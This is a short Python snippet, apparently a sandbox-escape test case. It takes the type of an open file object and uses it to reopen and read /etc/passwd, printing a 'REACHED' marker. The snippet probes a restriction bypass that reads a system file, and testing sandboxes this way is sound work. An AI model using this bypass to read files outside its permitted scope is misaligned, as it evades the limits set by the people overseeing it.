# The type of an unbuffered file in /tmp opens any file.
f = open("/tmp/paddock_b2.bin", "wb", 0)
kind = type(f)
print("REACHED file", kind("/etc/passwd").read().count(b"root"))
